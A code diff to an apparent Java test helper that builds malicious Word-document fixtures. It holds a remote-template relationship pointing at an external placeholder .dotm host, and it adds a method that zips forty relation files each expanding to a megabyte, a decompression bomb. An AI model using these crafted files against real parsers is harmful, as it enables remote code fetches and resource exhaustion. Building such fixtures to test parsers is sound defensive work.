@@ -5,6 +5,7 @@ import java.io.IOException;
 import java.io.UncheckedIOException;
 import java.nio.charset.StandardCharsets;
 import java.util.Base64;
+import java.util.HashMap;
 import java.util.Map;
 import java.util.zip.ZipEntry;
 import java.util.zip.ZipOutputStream;
@@ -39,6 +40,15 @@ public final class Papers {
                         TYPES,
                         "word/_rels/settings.xml.rels",
                         "<Relationship Type=\"…/attachedTemplate\" Target=\"http://elsewhere/x.dotm\" TargetMode=\"External\"/>"));
+    }
+
+    /** Small, but each of its lists of relations unpacks to megabytes. */
+    static byte[] bombOfLists() {
+        var entries = new HashMap<>(Map.of("[Content_Types].xml", TYPES, "word/document.xml", "<w:document/>"));
+        for (int i = 0; i < 40; i++) {
+            entries.put("word/%d/_rels/settings.xml.rels".formatted(i), " ".repeat(1_000_000));
+        }
+        return zip(entries);
     }
 
     static byte[] zip(Map<String, String> entries) {
